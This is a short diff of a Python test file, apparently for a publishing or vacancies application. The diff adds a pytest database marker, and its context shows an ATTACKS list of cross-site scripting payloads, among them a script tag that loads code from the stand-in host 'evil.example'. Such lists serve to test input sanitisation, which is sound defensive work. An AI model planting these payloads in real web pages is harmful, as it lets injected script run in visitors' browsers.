@@ -16,6 +16,8 @@ from tests.builders import MONDAY, a_term, a_vacancy, an_article, an_edition, lo
 from tests.desk import opened, staff
 from vacancies import proofs
 
+pytestmark = pytest.mark.one_database
+
 ATTACKS = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
